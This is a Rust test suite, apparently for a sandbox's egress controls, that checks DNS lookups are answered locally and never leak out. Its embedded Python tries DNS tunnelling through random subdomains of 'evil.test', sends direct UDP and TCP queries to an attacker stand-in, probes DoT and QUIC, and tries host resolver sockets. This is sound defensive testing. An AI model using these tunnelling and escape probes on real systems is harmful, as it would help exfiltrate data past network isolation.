//! S07, S30: names are answered inside; no question leaves, whoever asks and however.

use crate::asking::{GATEWAY, POLICY};
use crate::internet::{DNS, EVIL, Internet};

/// Python: `query(name, type)` is a message, `udp(to, message, port)` and `tcp(to, messages)` ask;
/// of an answer `code(it)` is its code and `count(it)` how many records it has.
const QUESTIONS: &str = r"
import socket, struct
def query(name, kind):
    labels = b''.join(bytes([len(l)]) + l for l in name.encode().split(b'.'))
    return b'\x01\x02\x01\0\0\x01\0\0\0\0\0\0' + labels + b'\0' + struct.pack('>HH', kind, 1)
def udp(to, message, port=53):
    s = socket.socket(10 if ':' in to else 2, 2)
    s.settimeout(3)
    s.sendto(message, (to, port))
    return s.recv(4096)
def tcp(to, messages):
    s = socket.create_connection((to, 53), 3)
    s.settimeout(3)
    s.sendall(b''.join(struct.pack('>H', len(m)) + m for m in messages))
    f = s.makefile('rb')
    return [f.read(struct.unpack('>H', f.read(2))[0]) for _ in messages]
def code(answer): return answer[3] & 15
def count(answer): return struct.unpack('>H', answer[6:8])[0]
def reverse(address): return '.'.join(reversed(address.split('.'))) + '.in-addr.arpa'
";

fn asks(net: &Internet, act: &str, why: &str) {
    net.python_inside(POLICY, &format!("{QUESTIONS}{act}")).works(why);
    assert_eq!((net.names(), net.seen().packets), (vec![], vec![]), "{why}: nothing leaves");
}

#[test]
fn s30_no_question_leaves() {
    let Some(net) = Internet::take() else { return };
    let many = |suffix: &str| {
        format!(
            "import os, socket\nfor i in range(200):\n    try: socket.getaddrinfo(os.urandom(12).hex() + '.{suffix}', 80)\n    \
             except socket.gaierror: pass"
        )
    };
    let direct = |ip: &str| {
        format!(
            "{QUESTIONS}q = query('tunnel.evil.test', 1)\n\
             for act in (lambda: tcp('{ip}', [q]), lambda: udp('{ip}', q), lambda: udp('{ip}', q, 5353)):\n    try: act()\n    except (OSError, struct.error): pass"
        )
        .replace("settimeout(3)", "settimeout(.15)")
    };
    net.python_outside(&many("evil.test")).works("a tunnel");
    assert!(net.names().len() >= 200);
    net.forget();
    net.python_outside(&direct(EVIL)).works("by hand");
    assert_eq!(net.names(), ["tunnel.evil.test"]);
    assert_eq!(net.seen().queries.len(), 2, "by TCP and by UDP");
    net.forget();
    let servers = [EVIL, DNS, GATEWAY, "127.0.0.53", "127.0.0.1", "224.0.0.251", "255.255.255.255"];
    let acts = servers.iter().map(|ip| direct(ip));
    for act in [many("evil.test"), many("good.test")].into_iter().chain(acts) {
        net.python_inside(POLICY, &act).works("refused, or answered here");
        assert_eq!((net.names(), net.seen().packets), (vec![], vec![]), "{act}");
    }
    // Over TLS and over QUIC, which nobody answers.
    for kind in [1, 2] {
        let act = format!(
            "import socket\ns = socket.socket(2, {kind}); s.settimeout(2); s.connect(('{EVIL}', 853)); s.sendall(b'x'); s.recv(1)"
        );
        net.python_inside(POLICY, &act).fails(&["ECONNREFUSED", "timed out"], "853");
    }
    // Other ways to a resolver of the host's.
    let sockets = "import socket\n\
         for path in ('/run/nscd/socket', '/var/run/nscd/socket', '/run/dbus/system_bus_socket', '/run/systemd/resolve/io.systemd.Resolve', '/run/avahi-daemon/socket'):\n\
         \x20   assert socket.socket(socket.AF_UNIX).connect_ex(path) != 0, path";
    net.python_inside(POLICY, sockets).works("none is there");
    assert_eq!((net.names(), net.seen().packets), (vec![], vec![]));
    let events = net.events("connection");
    let lookups = events.iter().filter(|one| one["way"] == "lookup" && one["verdict"] == "denied");
    assert!(lookups.count() >= 200, "each made-up name is on record");
}

#[test]
fn s07_no_key_for_a_hidden_hello_is_given_out() {
    let Some(net) = Internet::take() else { return };
    net.answer("good.test", &["HTTPS ech"]);
    let ask = |to: &str, kind: u16| format!("a = udp('{to}', query('good.test', {kind}))\n");
    let control = format!("{QUESTIONS}{}assert count(a) == 1 and code(a) == 0", ask(DNS, 65));
    net.python_outside(&control).works("without a wall a key comes");
    net.forget();
    for to in [GATEWAY, DNS] {
        let act = format!("{}assert (code(a), count(a)) == (0, 0), a", ask(to, 65));
        asks(&net, &act, "HTTPS");
        asks(&net, &act.replace("65", "64"), "SVCB");
    }
    asks(&net, &format!("{}assert (code(a), count(a)) == (0, 1), a", ask(DNS, 1)), "A");
}

#[test]
fn a_name_has_one_address_in_both_directions() {
    let Some(net) = Internet::take() else { return };
    let act = format!(
        "a = socket.gethostbyname('good.test'); b = socket.gethostbyname('x.good.test')\n\
         assert a.startswith('198.18.') and b.startswith('198.18.') and a != b, (a, b)\n\
         assert socket.gethostbyaddr(a)[0] == 'good.test' and socket.gethostbyaddr(b)[0] == 'x.good.test'\n\
         six = socket.getaddrinfo('good.test', 443, socket.AF_INET6)[0][4][0]\n\
         assert six.startswith('fdc0:ffe7:da00:') and socket.gethostbyaddr(six)[0] == 'good.test', six\n\
         for none in ('198.18.77.77', '{EVIL}'):\n\
         \x20   assert code(udp('{GATEWAY}', query(reverse(none), 12))) == 3, none\n\
         # Two questions on one connection, of whatever server.\n\
         for to in ('{GATEWAY}', '{DNS}', '{EVIL}'):\n\
         \x20   first, second = tcp(to, [query('good.test', 1), query('evil.test', 1)])\n\
         \x20   assert (code(first), count(first), code(second)) == (0, 1, 3), to\n\
         assert first[-4:] == socket.inet_aton(a)\n\
         assert code(udp('{GATEWAY}', query('good.test', 255))) in (0, 4), 'ANY'"
    );
    asks(&net, &act, "names");
    assert_eq!(net.connections("evil.test"), ["lookup 0 denied host-not-allowed 1"; 3]);
}

#[test]
fn what_nobody_can_answer_stops_nothing() {
    let Some(net) = Internet::take() else { return };
    let act = format!(
        "for to in ('224.0.0.251', '255.255.255.255', '239.1.2.3'):\n\
         \x20   s = socket.socket(2, 2); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)\n\
         \x20   s.setsockopt(0, 32, socket.inet_aton('127.0.0.1'))  # IP_MULTICAST_IF\n\
         \x20   for q in (query('good.test', 1), b'', b'x', b'\\0' * 12, b'\\xff' * 4000, query('a.test', 1)[:20]):\n\
         \x20       for at in (to, '{GATEWAY}'):\n\
         \x20           try: s.sendto(q, (at, 53))\n\
         \x20           except OSError: pass\n\
         assert count(udp('{GATEWAY}', query('good.test', 1))) == 1\n\
         assert count(tcp('{GATEWAY}', [query('good.test', 1)])[0]) == 1"
    );
    asks(&net, &act, "the name server goes on");
}
